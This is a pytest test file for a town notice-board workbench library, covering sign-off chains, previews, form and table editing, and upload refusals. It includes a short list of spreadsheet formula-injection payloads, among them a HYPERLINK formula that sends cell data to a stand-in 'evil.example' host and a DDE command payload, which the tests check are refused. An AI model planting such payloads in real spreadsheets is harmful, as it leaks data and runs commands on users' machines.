"""noticeboard.desk, the workbench's library: plain values for the web pages, on the sample town and on a
workspace where one notice does not load."""

from __future__ import annotations

import datetime as dt
import io
import os
import shutil
import tempfile
import threading
import time
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from noticeboard import desk, pipeline
from noticeboard.load.signoffs import CHINA
from noticeboard.load.workspace import load_workspace
from noticeboard.load.yamlsrc import load_yaml
from noticeboard.problems import UnreadableInput
from noticeboard.resources import samples_dir

NOTICE = "2026q1-finance"


@pytest.fixture
def town(tmp_path: Path) -> Path:
    root = tmp_path / "town"
    shutil.copytree(samples_dir() / "town", root, ignore=shutil.ignore_patterns("out"))
    return root


@pytest.fixture
def broken(town: Path) -> Path:
    """The town with one notice file that does not load."""
    (town / "notices" / "broken.yaml").write_text("id: broken\nkind: finance\ntitle: [\n", encoding="utf-8")
    return town


def _set_settings(root: Path, extra: str) -> None:
    path = root / "noticeboard.yaml"
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")


def test_roles_lists_officer_admin_then_every_chain_once(town: Path) -> None:
    assert desk.roles(town) == ["信息员", "管理员", "初审", "审核", "保密审查", "报账员初审", "村务监督委员会审核"]


def test_database_url_from_settings_and_its_refusals(town: Path) -> None:
    assert desk.database_url(town) is None
    _set_settings(town, "workbench: {database: postgresql://nb@db.example:5432/lcz}\n")
    assert desk.database_url(town) == "postgresql://nb@db.example:5432/lcz"
    shutil.copy(samples_dir() / "town" / "noticeboard.yaml", town / "noticeboard.yaml")
    _set_settings(town, "workbench: {database: 'postgresql://nb:secret@db:5432/lcz'}\n")
    with pytest.raises(UnreadableInput) as raised:
        desk.database_url(town)
    assert (
        str(raised.value.problem.where).startswith("noticeboard.yaml:") and "不能写密码" in raised.value.problem.message
    )
    shutil.copy(samples_dir() / "town" / "noticeboard.yaml", town / "noticeboard.yaml")
    _set_settings(town, "workbench:\n  database: mysql://nb@db/lcz\n")
    with pytest.raises(UnreadableInput) as raised:
        desk.database_url(town)
    assert "只能是 PostgreSQL 的地址" in raised.value.problem.message


def test_overview_has_plan_status_filters_and_the_notice_that_did_not_load(broken: Path) -> None:
    seen = desk.overview(broken, on=dt.date(2026, 4, 20))
    rows = {row.id: row for row in seen.rows}
    assert rows["broken"].loaded is False and rows["broken"].errors >= 1 and seen.rows[0].id == "broken"
    finance = rows[NOTICE]
    assert (finance.kind_label, finance.catalogue_title, finance.board_name) == (
        "财政收支",
        "财政收支情况",
        "镇政府大院政务公开栏",
    )
    assert finance.status == "已公开" and finance.showing == "公示中"
    assert finance.signed == ["初审", "审核", "保密审查"] and finance.waiting == [] and finance.returned == []
    assert ("courtyard", "镇政府大院政务公开栏") in seen.boards and ("finance", "财政收支情况") in seen.catalogue
    village = desk.overview(broken, on=dt.date(2026, 4, 20), board="village")
    assert village.rows and all(row.board == "village" for row in village.rows)
    only = desk.overview(broken, on=dt.date(2026, 4, 20), catalogue="finance")
    assert {row.id for row in only.rows} == {NOTICE, "2026q2-finance"}
    assert any("待公开" in line for line in seen.due)


def test_notice_state_chain_history_and_refusals(town: Path) -> None:
    path = town / "notices" / f"{NOTICE}.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text[: text.index("reviews:")], encoding="utf-8")
    state = desk.notice_state(town, NOTICE)
    assert [(s.role, s.state, s.ready) for s in state.chain] == [
        ("初审", "waiting", True),
        ("审核", "waiting", False),
        ("保密审查", "waiting", False),
    ]
    assert any("缺少" in p.message for p in state.refusals) and state.data_files == [f"notices/{NOTICE}.csv"]
    at = dt.datetime(2026, 4, 10, 9, tzinfo=CHINA)
    assert desk.sign(town, NOTICE, "初审", "王小红", {"初审"}, desk.AGREE, "", state.fingerprint, at) == []
    assert desk.sign(town, NOTICE, "审核", "李建国", {"审核"}, desk.RETURN, "合计不对", state.fingerprint, at) == []
    state = desk.notice_state(town, NOTICE)
    assert [(s.role, s.state, s.by, s.source) for s in state.chain[:2]] == [
        ("初审", "signed", "王小红", "workbench"),
        ("审核", "returned", "李建国", "workbench"),
    ]
    assert state.chain[1].reason == "合计不对" and state.chain[2].ready is False
    assert [(h.role, h.decision, h.current) for h in state.history] == [("初审", "同意", True), ("审核", "退回", True)]
    row = next(r for r in desk.overview(town, on=dt.date(2026, 4, 20)).rows if r.id == NOTICE)
    assert (row.signed, row.waiting, row.returned) == (["初审"], ["审核", "保密审查"], ["审核"])
    with pytest.raises(LookupError):
        desk.notice_state(town, "no-such-notice")


def test_notice_state_of_a_notice_that_did_not_load(broken: Path) -> None:
    state = desk.notice_state(broken, "broken")
    assert state.loaded is False and state.refusals and state.fingerprint == ""


def test_field_of_finds_the_key_of_a_yaml_problem(town: Path) -> None:
    path = town / "notices" / f"{NOTICE}.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("display_days: 10", "display_days: 十天"), encoding="utf-8"
    )
    problem = next(p for p in desk.notice_state(town, NOTICE).problems if p.where.line == 7)
    assert desk.field_of(problem, town, NOTICE) == "display_days"
    from noticeboard.problems import Where, error

    assert desk.field_of(error(Where(f"notices/{NOTICE}.csv", 3, cell="D"), "x"), town, NOTICE) is None
    assert desk.field_of(error(Where(f"notices/{NOTICE}.yaml"), "x"), town, NOTICE) is None


def test_previews_are_cached_and_redrawn_after_a_change(town: Path) -> None:
    first = desk.previews(town, NOTICE, width_px=600)
    assert not first.reused and first.images and all(p.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" for p in first.images)
    assert all(p.parent == town / ".workbench" / "previews" / NOTICE for p in first.images)
    small = desk.previews(town, NOTICE, width_px=200)
    assert not small.reused and small.images != first.images
    again = desk.previews(town, NOTICE, width_px=600)
    assert again.reused and again.images == first.images and all(p.is_file() for p in small.images)
    assert first.fingerprint == next(n for n in load_workspace(town).workspace.notices if n.id == NOTICE).fingerprint
    desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "D2", "681.99")
    changed = desk.previews(town, NOTICE, width_px=600)
    assert not changed.reused and changed.fingerprint != first.fingerprint


def test_previews_from_several_threads_at_once(town: Path) -> None:
    results: list[desk.Previews] = []
    errors: list[BaseException] = []

    def ask() -> None:
        try:
            results.append(desk.previews(town, NOTICE, width_px=400))
        except BaseException as exc:  # the test reports it
            errors.append(exc)

    threads = [threading.Thread(target=ask) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors and len(results) == 4
    assert sum(not r.reused for r in results) == 1 and len({tuple(r.images) for r in results}) == 1


def test_previews_of_a_letter_show_a_few_and_say_so(town: Path) -> None:
    shown = desk.previews(town, "2026-election-letter", width_px=300)
    assert len(shown.images) == desk.PREVIEW_LETTERS + 1
    assert any("预览只显示前3封信" in p.message for p in shown.problems)


def test_previews_of_a_notice_with_errors_say_why(broken: Path) -> None:
    shown = desk.previews(broken, "broken")
    assert shown.images == [] and shown.problems and shown.problems[0].is_error


def test_form_fields_from_the_schemas(town: Path) -> None:
    fields = {f.name: f for f in desk.form_fields(town, "finance")}
    assert not {"reviews", "data", "sheet", "kind"} & set(fields)
    assert fields["date"].type == "date" and fields["date"].required
    assert fields["display_days"].type == "integer"
    assert fields["catalogue"].type == "choice" and ("finance", "财政收支情况") in fields["catalogue"].choices
    assert fields["orientation"].choices == [("portrait", "竖版"), ("landscape", "横版")]
    assert fields["unit"].choices == [("元", "元"), ("万元", "万元")]
    notice = {f.name: f for f in desk.form_fields(town, "notice")}
    assert notice["body"].type == "textarea" and notice["seal"].type == "boolean"
    assert ("finance", "财政收支") in desk.kinds()


def test_write_notice_new_then_update_keeps_the_rest(town: Path) -> None:
    values = {
        "id": "2026q3-finance",
        "title": "两城镇2026年第三季度财政收支情况公示",
        "date": "2026-10-12",
        "period": "2026-Q3",
        "catalogue": "finance",
        "display_days": "10",
        "paper": "A3",
    }
    written = desk.write_notice(town, "finance", values)
    assert written.path == town / "notices" / "2026q3-finance.yaml"
    text = written.path.read_text(encoding="utf-8")
    assert "catalogue: finance           # 属于 noticeboard.yaml" in text and "display_days: 10 " in text
    assert "title: 两城镇2026年第三季度财政收支情况公示" in text and "# reviews:" in text
    assert (town / "notices" / "2026q3-finance.xlsx").is_file()
    assert any("示例" in p.message for p in written.problems)  # the template's sample row is still there
    again = desk.write_notice(town, "finance", values)
    assert again.path is None and "已经有了" in again.problems[0].message
    bad = desk.write_notice(town, "finance", {**values, "id": "../x"})
    assert bad.path is None and "只能由小写字母" in bad.problems[0].message
    original = (town / "notices" / f"{NOTICE}.yaml").read_text(encoding="utf-8")
    updated = desk.write_notice(town, "finance", {"title": "标题: 带冒号 #号", "display_days": ""}, NOTICE)
    text = updated.path.read_text(encoding="utf-8")
    assert 'title: "标题: 带冒号 #号"' in text and "display_days" not in text
    assert text.count("\n") == original.count("\n") - 1 and "  审核: {by: 李建国, date: 2026-04-11}" in text
    assert desk.notice_values(town, NOTICE)["title"] == "标题: 带冒号 #号"
    assert desk.notice_values(town, NOTICE)["kind"] == "finance" and "reviews" not in desk.notice_values(town, NOTICE)


def test_write_notice_block_text_for_a_body(town: Path) -> None:
    written = desk.write_notice(
        town,
        "notice",
        {"id": "n1", "title": "关于停水的通知", "date": "2026-05-01", "body": "因管道检修，停水一天。\n\n特此通知。"},
    )
    assert written.path is not None
    values = desk.notice_values(town, "n1")
    assert values["body"].startswith("因管道检修，停水一天。\n\n特此通知。")


def test_template_is_the_new_commands_workbook() -> None:
    name, data = desk.template("finance")
    assert name.endswith(".xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["数据", "说明"]
    with pytest.raises(LookupError):
        desk.template("guide")


def test_save_table_refusals_and_upload(town: Path) -> None:
    good = (town / "notices" / "2026q2-finance.xlsx").read_bytes()
    for name, data, said in [
        ("../x.xlsx", good, "路径"),
        ("a\\b.xlsx", good, "路径"),
        ("x.pdf", good, "只能上传表格文件"),
        ("x.xlsx", b"\0" * (desk.MAX_UPLOAD_BYTES + 1), "文件太大"),
        ("x.xlsx", b"not a workbook", "读不出表格"),
    ]:
        written = desk.save_table(town, NOTICE, name, data)
        assert written.path is None and said in written.problems[0].message, name
    guide = desk.save_table(town, "guide-dibao", "x.xlsx", good)
    assert guide.path is None and "不使用数据表" in guide.problems[0].message
    written = desk.save_table(town, NOTICE, "收支.xlsx", good)
    assert written.path == town / "notices" / f"{NOTICE}.xlsx"
    text = (town / "notices" / f"{NOTICE}.yaml").read_text(encoding="utf-8")
    assert f"data: {NOTICE}.xlsx" in text and "reviews:" in text


def test_table_grids_mark_the_cells_problems_name(town: Path) -> None:
    table = town / "notices" / f"{NOTICE}.csv"
    table.write_text(table.read_text(encoding="utf-8").replace("680.99,680.99", "680.99,abc", 1), encoding="utf-8")
    grid = desk.table_grids(town, NOTICE)[0]
    assert grid.sheet is None and grid.editable and grid.columns[:3] == ["A", "B", "C"]
    assert grid.rows[1] == (2, ["101", "税收收入", "3,069.00", "680.99", "abc", "697.92"])
    assert "E2" in grid.marks and grid.marks["E2"][0].level == "error"
    dibao = desk.table_grids(town, "2026q2-dibao")[0]
    assert dibao.sheet == "低保对象"
    assert not any(len(c) == 18 and c[:17].isdigit() for _, cells in dibao.rows for c in cells)  # ID numbers masked


def test_set_cell_csv_keeps_encoding_and_other_lines(town: Path) -> None:
    table = town / "notices" / f"{NOTICE}.csv"
    before = table.read_bytes()
    written = desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "D2", "700.5")
    after = table.read_bytes()
    assert written.path == table and after.startswith(b"\xef\xbb\xbf")
    assert (
        after.splitlines()[1] == b'101,\xe7\xa8\x8e\xe6\x94\xb6\xe6\x94\xb6\xe5\x85\xa5,"3,069.00",700.5,680.99,697.92'
    )
    assert after.splitlines()[2:] == before.splitlines()[2:]


def test_set_cell_xlsx_and_its_refusals(town: Path) -> None:
    workbook = "notices/2026q2-finance.xlsx"
    written = desk.set_cell(town, "2026q2-finance", workbook, "收支表", "D5", "12.5")
    assert written.path == town / workbook
    assert openpyxl.load_workbook(town / workbook)["收支表"]["D5"].value == 12.5
    book = openpyxl.load_workbook(town / workbook)
    book["收支表"]["J1"] = "=1+1"
    book.save(town / workbook)
    refused = desk.set_cell(town, "2026q2-finance", workbook, "收支表", "D5", "13")
    assert refused.path is None and "请在 Excel/WPS 里改好后重新上传" in refused.problems[0].message
    refused = desk.set_cell(town, NOTICE, "notices/other.csv", None, "A1", "x")
    assert refused.path is None and "不读这个表格" in refused.problems[0].message


def test_downloads_after_the_final_build(town: Path) -> None:
    result = desk.final_build(town, [NOTICE, "2026-election-letter"], tile_sheet="A3")
    assert result.refused == []
    assert [d.label for d in desk.downloads(town, NOTICE)] == ["印刷版 PDF", "拼贴打印 PDF"]  # an A2 poster
    letter = desk.downloads(town, "2026-election-letter")
    assert [d.label for d in letter] == ["印刷版 PDF", "签收登记表"]
    assert letter[1].path == town / "out" / "print" / "2026-election-letter-receipts.pdf"


def test_the_clerks_whole_job_then_build_agrees(town: Path) -> None:
    """New notice from the form, a table with a bad cell uploaded, the red cell fixed, three sign-offs
    made now (the date field's default is today where the boards are), the final build, then build again."""
    date_field = next(f for f in desk.form_fields(town, "finance") if f.name == "date")
    values = {
        "id": "2026q4-finance",
        "title": "两城镇2026年第四季度财政收支情况公示",
        "date": date_field.default,
        "period": "2026-Q4",
        "catalogue": "finance",
        "display_days": "10",
    }
    assert desk.write_notice(town, "finance", values).path is not None
    table = (town / "notices" / f"{NOTICE}.csv").read_bytes().replace(b"680.99,680.99", b"680.99,abc", 1)
    uploaded = desk.save_table(town, "2026q4-finance", "收支表.csv", table)
    assert any(str(p).startswith("notices/2026q4-finance.csv:2:E: 错误") for p in uploaded.problems)
    assert "E2" in desk.table_grids(town, "2026q4-finance")[0].marks
    fixed = desk.set_cell(town, "2026q4-finance", "notices/2026q4-finance.csv", None, "E2", "680.99")
    assert not [p for p in fixed.problems if p.is_error]
    fingerprint = desk.notice_state(town, "2026q4-finance").fingerprint
    for role, name in (("初审", "王小红"), ("审核", "李建国"), ("保密审查", "赵敏")):
        assert desk.sign(town, "2026q4-finance", role, name, {role}, desk.AGREE, "", fingerprint) == []
    assert desk.notice_state(town, "2026q4-finance").refusals == []
    built = desk.final_build(town, ["2026q4-finance"])
    assert built.ok, [str(p) for p in built.problems]
    assert [d.label for d in desk.downloads(town, "2026q4-finance")] == ["印刷版 PDF"]
    again = pipeline.build(town, ids=["2026q4-finance"])
    assert again.ok and again.refused == [] and again.registered == []  # the same content: nothing new to register


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=("Cs",)), min_size=1, max_size=40))
def test_any_form_value_reads_back_as_written(value: str) -> None:
    text = desk.set_keys(
        "id: x\ntitle: old           # 标题\nreviews:\n  初审: {by: 王小红, date: 2026-04-10}\n", {"title": value}
    )
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.yaml"
        path.write_text(text, encoding="utf-8")
        node, problems = load_yaml(path, "x.yaml")
    assert node is not None, (text, problems)
    read = node.entries["title"].value
    assert set(node.entries) == {"id", "title", "reviews"}
    if "\n" in value.replace("\r\n", "\n") and read != value:  # a block: each line as written, trailing spaces aside
        assert [line.rstrip() for line in read.rstrip("\n").split("\n")] == [
            line.rstrip() for line in value.replace("\r\n", "\n").rstrip("\n").split("\n")
        ]
    else:
        assert read == value


def test_set_cell_keeps_a_gbk_csv_in_gbk(town: Path) -> None:
    table = town / "notices" / "2026-households.csv"
    lines = table.read_bytes().decode("gb18030").splitlines()
    written = desk.set_cell(
        town, "2026-election-letter", "notices/2026-households.csv", None, "A2", lines[1].split(",")[0]
    )
    assert written.path == table
    changed = desk.set_cell(town, "2026-election-letter", "notices/2026-households.csv", None, "D3", "小庄村西街9号")
    assert changed.path == table
    after = table.read_bytes().decode("gb18030").splitlines()  # still GB18030, not UTF-8
    assert after[2].split(",")[3] == "小庄村西街9号" and after[3:] == lines[3:] and after[:2] == lines[:2]


def test_table_grids_show_the_first_rows_only(town: Path) -> None:
    table = town / "notices" / f"{NOTICE}.csv"
    extra = "".join(f"9{i:04d},其他{i},1.00,1.00,1.00,1.00\n" for i in range(desk.MAX_GRID_ROWS + 50))
    table.write_text(table.read_text(encoding="utf-8") + extra, encoding="utf-8")
    grid = desk.table_grids(town, NOTICE)[0]
    assert grid.truncated and len(grid.rows) == desk.MAX_GRID_ROWS


def test_refusals_include_content_changed_under_registered_signoffs(town: Path) -> None:
    assert desk.final_build(town, [NOTICE]).ok
    path = town / "notices" / f"{NOTICE}.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("display_days: 10", "display_days: 11"), encoding="utf-8")
    refusals = desk.notice_state(town, NOTICE).refusals
    assert any("内容在签批之后改动过" in p.message for p in refusals)


def test_overview_is_drawn_again_when_a_file_changes(town: Path) -> None:
    on = dt.date(2026, 4, 20)
    before = next(r for r in desk.overview(town, on=on).rows if r.id == NOTICE)
    assert before.returned == [] and desk.overview(town, on=on).rows == desk.overview(town, on=on).rows
    fingerprint = desk.notice_state(town, NOTICE).fingerprint
    at = dt.datetime(2026, 4, 11, 9, tzinfo=CHINA)
    assert desk.sign(town, NOTICE, "审核", "李建国", {"审核"}, desk.RETURN, "数字不对", fingerprint, at) == []
    after = next(r for r in desk.overview(town, on=on).rows if r.id == NOTICE)
    assert after.returned == ["审核"]
    desk.overview(town, on=on).rows.clear()  # a caller's change to its copy is not the next caller's list
    assert desk.overview(town, on=on).rows


@pytest.fixture
def computed(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """Every `check` notice_state runs (the costly part), by the ids asked for."""
    calls: list[list[str]] = []
    real = pipeline.check

    def counted(root, ids=None):
        calls.append(list(ids or []))
        return real(root, ids)

    monkeypatch.setattr(pipeline, "check", counted)
    return calls


def test_notice_state_is_kept_until_a_file_it_reads_changes(town: Path, computed: list[list[str]]) -> None:
    first = desk.notice_state(town, NOTICE)
    again = desk.notice_state(town, NOTICE)
    assert computed == [[NOTICE]] and again == first and again is not first
    again.chain.clear()
    again.problems.clear()
    assert desk.notice_state(town, NOTICE) == first and len(computed) == 1  # each caller has its own copy
    desk.notice_state(town, "2026q2-finance")
    assert computed[-1] == ["2026q2-finance"]


def test_notice_state_shows_every_change_at_once(town: Path) -> None:
    path = town / "notices" / f"{NOTICE}.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text[: text.index("reviews:")], encoding="utf-8")
    state = desk.notice_state(town, NOTICE)
    assert state.chain[0].state == "waiting" and desk.notice_state(town, NOTICE) == state
    at = dt.datetime(2026, 4, 10, 9, tzinfo=CHINA)
    assert desk.sign(town, NOTICE, "初审", "王小红", {"初审"}, desk.AGREE, "", state.fingerprint, at) == []
    signed = desk.notice_state(town, NOTICE)
    assert signed.chain[0].state == "signed" and [h.role for h in signed.history] == ["初审"]
    assert not any(p.where.cell == "E" and p.where.line == 2 for p in signed.problems)
    assert desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "E2", "abc").path is not None
    problems = desk.notice_state(town, NOTICE).problems
    assert any(p.where.cell == "E" and p.where.line == 2 and p.is_error for p in problems)
    assert desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "E2", "680.99").path is not None
    assert not any(p.where.line == 2 and p.where.cell for p in desk.notice_state(town, NOTICE).problems)
    text = path.read_text(encoding="utf-8")
    assert "display_days: 10" in text
    path.write_text(text.replace("display_days: 10", "display_days: 11"), encoding="utf-8")  # the same size
    edited = desk.notice_state(town, NOTICE)
    assert edited.fingerprint != signed.fingerprint and edited.chain[0].state == "stale"


def test_notice_state_asked_by_many_at_once_is_computed_once(town: Path, computed: list[list[str]]) -> None:
    results: list[desk.NoticeState] = []
    start = threading.Barrier(8)

    def ask() -> None:
        start.wait()
        results.append(desk.notice_state(town, "2026q2-dibao"))

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert computed == [["2026q2-dibao"]] and len(results) == 8
    assert all(r == results[0] for r in results) and len({id(r) for r in results}) == 8


def test_write_notice_comment_says_the_date_written(town: Path) -> None:
    values = {"id": "2026q3-finance", "title": "第三季度财政收支", "date": "2026-10-12", "period": "2026-Q3"}
    path = desk.write_notice(town, "finance", values).path
    assert path is not None
    line = next(line for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("date:"))
    assert line.startswith("date: 2026-10-12") and line.endswith("# 发布日期：印作「2026年10月12日」")
    desk.write_notice(town, "finance", {"date": "2026/11/3"}, "2026q3-finance")
    line = next(line for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("date:"))
    assert line.startswith("date: 2026/11/3") and line.endswith("# 发布日期：印作「2026年11月3日」")
    desk.write_notice(town, "finance", {"date": "下个月"}, "2026q3-finance")
    line = next(line for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("date:"))
    assert line.startswith("date: 下个月") and line.rstrip().endswith("# 发布日期") and "印作" not in line
    assert desk.set_keys("date: 2026-01-02  # 发布日期：印作「2026年1月2日」\n", {"date": "2026-03-04"}) == (
        "date: 2026-03-04  # 发布日期：印作「2026年3月4日」\n"
    )


def test_save_table_reads_a_wps_et_as_the_workbook_it_holds(town: Path) -> None:
    """WPS writes an .et as the binary (OLE2) workbook an .xls is; calamine reads it, so it is kept as .xls."""
    binary = (Path(__file__).parent / "data" / "finance.xls").read_bytes()
    assert binary.startswith(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
    written = desk.save_table(town, NOTICE, "一季度收支.et", binary)
    assert written.path == town / "notices" / f"{NOTICE}.xls" and written.path.read_bytes() == binary
    assert f"data: {NOTICE}.xls" in (town / "notices" / f"{NOTICE}.yaml").read_text(encoding="utf-8")
    grid = desk.table_grids(town, NOTICE)[0]
    assert grid.file == f"notices/{NOTICE}.xls" and grid.sheet == "收支表"
    assert any(cells[1:3] == ["101", "税收收入"] for _, cells in grid.rows)
    zipped = desk.save_table(town, NOTICE, "另存.et", (town / "notices" / "2026q2-finance.xlsx").read_bytes())
    assert zipped.path == town / "notices" / f"{NOTICE}.xlsx"  # an .et WPS wrote as a zip of XML is an xlsx
    refused = desk.save_table(town, NOTICE, "坏的.et", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert refused.path is None and len(refused.problems) == 1
    assert "WPS" in refused.problems[0].message and "另存为" in refused.problems[0].message
    assert "Excel 格式（.xlsx）" in refused.problems[0].message
    assert f"data: {NOTICE}.xlsx" in (town / "notices" / f"{NOTICE}.yaml").read_text(encoding="utf-8")


def test_a_state_read_just_after_a_write_is_not_kept(town: Path, computed: list[list[str]]) -> None:
    """A second same-size write in the same tick of the file system's clock would leave every stat as it
    was: what was read within that tick of a write is read again by the next caller."""
    path = town / "notices" / f"{NOTICE}.yaml"
    soon = time.time() + 30  # "within a tick of now" however slowly the calls below run on a busy machine
    os.utime(path, (soon, soon))
    desk.notice_state(town, NOTICE)
    desk.notice_state(town, NOTICE)
    assert len(computed) == 2
    past = time.time() - 5
    os.utime(path, (past, past))
    desk.notice_state(town, NOTICE)
    desk.notice_state(town, NOTICE)
    assert len(computed) == 3


def test_an_overview_read_just_after_a_write_is_not_kept(town: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from noticeboard.desk import listing as module

    loads: list[Path] = []
    real = module.load_workspace

    def counted(root, *args, **kwargs):
        loads.append(root)
        return real(root, *args, **kwargs)

    monkeypatch.setattr(module, "load_workspace", counted)
    on = dt.date(2026, 4, 20)
    desk.overview(town, on=on)
    desk.overview(town, on=on)
    assert len(loads) == 1
    path = town / "notices" / f"{NOTICE}.yaml"
    soon = time.time() + 30  # "within a tick of now" however slowly the calls below run
    os.utime(path, (soon, soon))
    desk.overview(town, on=on)
    desk.overview(town, on=on)
    assert len(loads) == 3


FORMULAS = ['=HYPERLINK("http://evil.example/?"&C5,"点这里")', '=cmd|" /C calc"!A0', "+1+2", "@SUM(A1)", "-2+3", " =1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_set_cell_refuses_a_value_excel_would_run_as_a_formula(town: Path, value: str) -> None:
    csv_table, book = town / "notices" / f"{NOTICE}.csv", town / "notices" / "2026q2-finance.xlsx"
    before = csv_table.read_bytes(), book.read_bytes()
    refused = desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "D2", value)
    assert refused.path is None
    assert refused.problems[0].message.startswith("单元格不能以 =、+、-、@ 开头")
    assert str(refused.problems[0].where) == f"notices/{NOTICE}.csv:2:D"
    refused = desk.set_cell(town, "2026q2-finance", "notices/2026q2-finance.xlsx", "收支表", "D5", value)
    assert refused.path is None and "会把它当成公式" in refused.problems[0].message
    assert str(refused.problems[0].where) == "notices/2026q2-finance.xlsx[收支表]!D5"
    assert (csv_table.read_bytes(), book.read_bytes()) == before


def test_set_cell_refuses_a_leading_tab_or_return_and_keeps_numbers_and_a_lone_dash(town: Path) -> None:
    csv_name, book = f"notices/{NOTICE}.csv", "notices/2026q2-finance.xlsx"
    for value in ("\t=1+1", "\r=1+1"):
        refused = desk.set_cell(town, NOTICE, csv_name, None, "D2", value)
        assert refused.path is None and "制表符或回车" in refused.problems[0].message
    for value in ("-12.5", "(12.5)", "+3", "-"):
        assert desk.set_cell(town, NOTICE, csv_name, None, "D2", value).path is not None, value
        line = (town / csv_name).read_text(encoding="utf-8-sig").splitlines()[1]
        assert line.split(",")[4] == value  # after "3,069.00", which is quoted and holds a comma
    assert desk.set_cell(town, "2026q2-finance", book, "收支表", "D5", "-12.5").path is not None
    assert openpyxl.load_workbook(town / book)["收支表"]["D5"].value == -12.5
    assert desk.set_cell(town, "2026q2-finance", book, "收支表", "D6", "-").path is not None
    cell = openpyxl.load_workbook(town / book)["收支表"]["D6"]
    assert cell.value == "-" and cell.data_type == "s"


def test_set_cell_xlsx_stores_text_as_text(town: Path) -> None:
    book = "notices/2026q2-finance.xlsx"
    assert desk.set_cell(town, "2026q2-finance", book, "收支表", "B5", "税收（=合计）").path is not None
    cell = openpyxl.load_workbook(town / book)["收支表"]["B5"]
    assert cell.value == "税收（=合计）" and cell.data_type == "s"
    refused = desk.set_cell(town, "2026q2-finance", book, "收支表", "B5", "a\x01b")
    assert refused.path is None and "控制字符" in refused.problems[0].message


def test_set_cell_refuses_a_cell_out_of_range_and_writes_nothing(town: Path) -> None:
    csv_table, book = town / "notices" / f"{NOTICE}.csv", town / "notices" / "2026q2-finance.xlsx"
    before = csv_table.read_bytes(), book.read_bytes()
    lines = len(before[0].splitlines())
    for cell, says in (
        ("A200000", f"这个 CSV 只有 {lines} 行"),
        (f"A{lines + 2}", f"最多只能在第 {lines + 1} 行添一行"),
        ("H2", "最宽的一行只到 F 列，最多只能在 G 列添一列"),
        ("A2\n", "写法不对"),
    ):
        refused = desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, cell, "1")
        assert refused.path is None and says in refused.problems[0].message, cell
    for cell, says in (("A1048577", "超出了表格的范围"), ("XFE1", "最多到 XFD 列"), ("D5\n", "写法不对")):
        refused = desk.set_cell(town, "2026q2-finance", str(book.relative_to(town)), "收支表", cell, "1")
        assert refused.path is None and says in refused.problems[0].message, cell
    assert (csv_table.read_bytes(), book.read_bytes()) == before
    # the row after the last and the column after the widest are still there to fill
    assert desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, f"A{lines + 1}", "999").path is not None
    assert desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "G2", "备注").path is not None
    assert desk.set_cell(town, "2026q2-finance", str(book.relative_to(town)), "收支表", "XFD1048576", "1").path


def test_table_grids_name_the_cells_shown_masked(town: Path) -> None:
    dibao = desk.table_grids(town, "2026q2-dibao")[0]
    shown = {f"{c}{n}": t for n, cells in dibao.rows for c, t in zip(dibao.columns, cells)}
    assert dibao.masked and all("*" in shown[ref] for ref in dibao.masked)
    assert not any("*" in text for ref, text in shown.items() if ref not in dibao.masked)


@pytest.mark.parametrize("notice_id", ["con", "nul", "com3", "lpt7"])
def test_write_notice_refuses_an_id_windows_keeps_for_a_device(town: Path, notice_id: str) -> None:
    written = desk.write_notice(town, "guide", {"id": notice_id, "title": "指南"})
    assert written.path is None and written.notice_id is None
    assert written.problems[0].message == (
        f"编号「{notice_id}」是 Windows 的保留名字，那里建不了这个文件。请换一个，比如 {notice_id}-2026。"
    )
    assert not list((town / "notices").glob(f"{notice_id}.*"))
    assert desk.write_notice(town, "guide", {"id": f"{notice_id}-2026", "title": "指南"}).path is not None


def _whole_form(root: Path, notice_id: str) -> tuple[str, dict[str, str]]:
    values = desk.notice_values(root, notice_id)
    kind = values["kind"]
    return kind, {f.name: values.get(f.name, f.default) for f in desk.form_fields(root, kind)}


def test_every_sample_notice_round_trips_its_whole_form_byte_for_byte(town: Path) -> None:
    """Lists included (a guide's steps, a roster's columns): shown as the file holds them, posted back unchanged."""
    for path in sorted((town / "notices").glob("*.yaml")):
        before = path.read_bytes()
        kind, form = _whole_form(town, path.stem)
        written = desk.write_notice(town, kind, form, notice_id=path.stem)
        assert written.path is not None, [str(p) for p in written.problems]
        assert path.read_bytes() == before, path.name


def test_a_guides_lists_are_written_in_the_browser_and_read_as_the_command_line_reads_them(town: Path) -> None:
    fields = {f.name: f for f in desk.form_fields(town, "guide")}
    assert {"materials", "steps", "conditions"} <= {name for name, f in fields.items() if f.type == "yaml"}
    kind, form = _whole_form(town, "guide-dibao")
    form["materials"] += "\n- {name: 𠀀氏家谱复印件, copies: 1份, requirement: 有则提供}"
    written = desk.write_notice(town, kind, form, notice_id="guide-dibao")
    assert not [p for p in written.problems if p.is_error], [str(p) for p in written.problems]
    notice = next(n for n in load_workspace(town).workspace.notices if n.id == "guide-dibao")
    assert "𠀀氏家谱复印件" in repr(notice.content)
    path = town / "notices" / "guide-dibao.yaml"
